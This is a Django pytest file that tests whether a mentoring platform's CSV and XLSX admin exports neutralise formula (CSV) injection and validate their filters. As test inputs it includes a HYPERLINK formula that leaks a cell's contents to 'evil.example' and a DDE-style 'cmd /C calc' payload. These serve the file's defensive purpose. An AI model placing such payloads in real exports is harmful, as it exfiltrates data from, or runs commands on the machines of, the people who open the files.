"""Spreadsheet exports: no cell a person typed runs as a formula (OWASP CSV injection),
every export is written through ``mentoring.exports`` and validates its filters like the
change list it comes from."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.apps import apps
from django.contrib import admin
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.db import models
from django.db.models import F, Value
from django.db.models.functions import Concat, Left
from django.test import Client, RequestFactory
from django.urls import reverse

from flash_meetings.models import FlashMeeting
from mentoring.exports import spreadsheet_safe
from surveys.models import SurveyResponse
from tests.admin_scoping import conftest as scoping
from tests.exports.helpers import FORMAT, export, formula_cells_xlsx, xlsx_sheet
from tests.surveys import factories as survey_factories
from tests.surveys.conftest import ANYTHING, TALKED, USEFUL

pytestmark = pytest.mark.django_db

# The two-program world of tests/admin_scoping (Alpha's program admin, a superuser).
_module_world = scoping._module_world
world = scoping.world

PROJECT_APPS = ("mentoring", "notifications", "matching", "flash_meetings", "surveys", "portal")
ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")


def _cells(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(DANGEROUS) or cell.lstrip().startswith(("=", "+", "-", "@"))
    ]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that looks like a number is still text someone typed
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("\x00=1", "'\x00=1"),
        ("   =cmd|' /C calc'!A0", "'   =cmd|' /C calc'!A0"),  # after leading white space
        ("\u00a0=1", "'\u00a0=1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("a=1", "a=1"),
        ("Career change", "Career change"),
        ("", ""),
        (None, ""),
        (-5, -5),  # numbers our code writes stay numbers
        (3.5, 3.5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (True, "True"),
    ],
)
def test_spreadsheet_safe_neutralises_text_and_keeps_numbers(value, expected):
    assert spreadsheet_safe(value) == expected


RESPONSES = "surveys_surveyresponse"


def test_a_separator_or_quote_inside_an_answer_cannot_start_a_new_cell(admin_client):
    program = survey_factories.ProgramFactory()
    meeting = survey_factories.meeting(program=program, status=FlashMeeting.Status.COMPLETED)
    crafted = 'fine","=1+1\n=2+2;=3+3'
    survey_factories.answer(meeting, meeting.mentee, {USEFUL: 4, TALKED: crafted})
    rows = _cells(export(admin_client, RESPONSES))
    header, row = rows
    assert row[header.index(TALKED)] == crafted  # one cell, as typed, starting harmlessly
    assert _formula_cells(rows) == []


def test_a_formula_answer_comes_out_neutralised_in_the_survey_export(admin_client):
    program = survey_factories.ProgramFactory(name="-Program")
    meeting = survey_factories.meeting(
        program=program, status=FlashMeeting.Status.COMPLETED, topic="@topic"
    )
    survey_factories.answer(meeting, meeting.mentee, {USEFUL: 5, TALKED: HYPERLINK, ANYTHING: "+1"})
    response = export(admin_client, RESPONSES)
    assert response.status_code == 200
    rows = _cells(response)
    header, row = rows
    assert row[header.index(TALKED)] == "'" + HYPERLINK
    assert row[header.index(ANYTHING)] == "'+1"
    assert row[header.index("Program")] == "'-Program"
    assert row[header.index("Meeting topic")] == "'@topic"
    assert row[header.index(USEFUL)] == "5"
    assert row[header.index("Response")] == str(SurveyResponse.objects.get().pk)
    assert _formula_cells(rows) == []
    # The workbook: the same text cells, never a formula; the rating and the id numbers.
    sheet = xlsx_sheet(export(admin_client, RESPONSES, "xlsx"))
    header, row = ([cell.value for cell in cells] for cells in sheet.iter_rows())
    assert row[header.index(TALKED)] == "'" + HYPERLINK
    assert row[header.index(ANYTHING)] == "'+1"
    assert row[header.index(USEFUL)] == 5
    assert row[header.index("Response")] == SurveyResponse.objects.get().pk
    assert formula_cells_xlsx(sheet) == []


# --- every export goes through mentoring.exports --------------------------------------------


def test_no_module_but_mentoring_exports_writes_csv():
    """A new export that writes CSV itself fails here: use ``mentoring.exports``."""
    offenders = []
    pattern = re.compile(
        r"^\s*(import csv|from csv import)|text/csv|\.xlsx|openpyxl|xlsxwriter", re.MULTILINE
    )
    for app in PROJECT_APPS:
        for path in (ROOT / app).rglob("*.py"):
            if path.relative_to(ROOT).as_posix() == "mentoring/exports.py":
                continue
            if pattern.search(path.read_text()):
                offenders.append(path.relative_to(ROOT).as_posix())
    assert offenders == []


def _plant_formulas() -> None:
    """Every free-text column of every row of the project's tables starts with '='."""
    for app in PROJECT_APPS:
        for model in apps.get_app_config(app).get_models():
            for field in model._meta.concrete_fields:
                if not isinstance(field, models.CharField | models.TextField) or field.choices:
                    continue
                if field.name == "password":
                    continue  # signed-in sessions are bound to it
                value = Concat(Value("=1+"), F(field.name), output_field=field)
                if field.max_length:
                    value = Left(value, field.max_length)
                model._default_manager.update(**{field.name: value})


_STANDARD_URL_NAMES = {"changelist", "add", "history", "delete", "change"}


def _custom_admin_urls(model_admin, pks: list) -> list[str]:
    """The admin's own URLs beyond Django's standard ones, filled with an object's id."""
    info = f"{model_admin.model._meta.app_label}_{model_admin.model._meta.model_name}_"
    urls = []
    for pattern in model_admin.get_urls():
        name = pattern.name or ""
        if not name.startswith(info) or name.removeprefix(info) in _STANDARD_URL_NAMES:
            continue
        converters = list(pattern.pattern.converters)
        if converters and not pks:
            continue
        urls.append(reverse(f"admin:{name}", kwargs=dict.fromkeys(converters, pks[0])))
    return urls


def test_every_csv_the_admin_serves_has_no_formula_cell(client, world):
    """Every action and every custom URL of every registered admin, and every export
    page's download in each format (all rows, and the rows chosen with its action), as a
    superuser and as a program admin, with a formula planted in every text column:
    whatever comes back as CSV or XLSX has no cell a spreadsheet would run. At least the
    exports of the survey responses, connections, connection requests and flash meetings
    must be found."""
    survey_factories.answer(
        survey_factories.meeting(
            program=world.alpha.program,
            status=FlashMeeting.Status.COMPLETED,
            mentor_user=world.alpha.mentor,
            mentee_user=world.alpha.mentee,
        ),
        world.alpha.mentee,
        {USEFUL: 3, TALKED: "typed"},
    )
    _plant_formulas()
    csv_sources, failures = set(), []
    for user in (world.superuser, world.alpha_admin):
        client.force_login(user)
        for model, model_admin in admin.site._registry.items():
            request = _request(user)
            if not model_admin.has_view_permission(request):
                continue
            pks = list(model_admin.get_queryset(request).values_list("pk", flat=True)[:50])
            changelist = reverse(
                f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist"
            )
            calls = [(url, "get", {}) for url in _custom_admin_urls(model_admin, pks)]
            calls += [
                (changelist, "post", {"action": name, ACTION_CHECKBOX_NAME: pks, "index": 0})
                for name in model_admin.get_actions(request)
            ]
            for url in _custom_admin_urls(model_admin, pks):
                if url.endswith("/export/"):
                    for fmt in FORMAT.values():
                        calls.append((url, "post", {"format": fmt}))
                        calls.append((url, "post", {"format": fmt, "export_items": pks}))
            for url, method, data in calls:
                response = getattr(client, method)(url, data)
                content_type = response.get("Content-Type", "")
                label = f"{user.username} {method} {url} {data}"
                source = f"{method} {url}"
                if content_type.startswith("text/csv"):
                    csv_sources.add(source)
                    if bad := _formula_cells(_cells(response)):
                        failures.append(f"{label}: {bad[:3]}")
                elif content_type.startswith("application/vnd.openxmlformats"):
                    csv_sources.add(f"{source} xlsx")
                    if bad := formula_cells_xlsx(xlsx_sheet(response)):
                        failures.append(f"{label}: {bad[:3]}")
    assert failures == []
    exports = [
        "/admin/surveys/surveyresponse/export/",
        "/admin/matching/connection/export/",
        "/admin/matching/connectionrequest/export/",
        "/admin/flash_meetings/flashmeeting/export/",
    ]
    assert {f"post {url}" for url in exports} <= csv_sources
    assert {f"post {url} xlsx" for url in exports} <= csv_sources


def _request(user):
    request = RequestFactory().get("/admin/")
    request.user = user
    return request


# --- exports validate their filters like the change list -----------------------------------

BAD_FILTERS = [
    {"survey__id__exact": "abc"},
    {"no_such_field": "1"},
    {"version__exact": "x", "survey__program__id__exact": "-1x"},
    {"submitted_at__year": "0"},
    {"submitted_at__year": "9999", "submitted_at__month": "12"},
    {"flash_meeting__topic__exact": "a\x00b"},
    {"submitted_at__gte": "not a date"},
    {"respondent__password__startswith": "pbkdf2"},
]


@pytest.mark.parametrize("query", BAD_FILTERS, ids=lambda query: "&".join(query))
def test_the_survey_export_answers_invalid_filters_as_the_change_list_does(world, query):
    """The export page and its download (POST) alike."""
    for user in (world.superuser, world.alpha_admin):
        client = Client(raise_request_exception=False)
        client.force_login(user)
        listing = client.get(reverse("admin:surveys_surveyresponse_changelist"), query)
        page = client.get(reverse("admin:surveys_surveyresponse_export"), query)
        download = export(client, RESPONSES, query=query)
        for answer in (page, download):
            assert answer.status_code < 500, (user.username, query)
            assert (answer.status_code, answer.get("Location")) == (
                listing.status_code,
                listing.get("Location"),
            ), (user.username, query)
            if answer.status_code == 302:
                assert answer["Location"].endswith("?e=1")
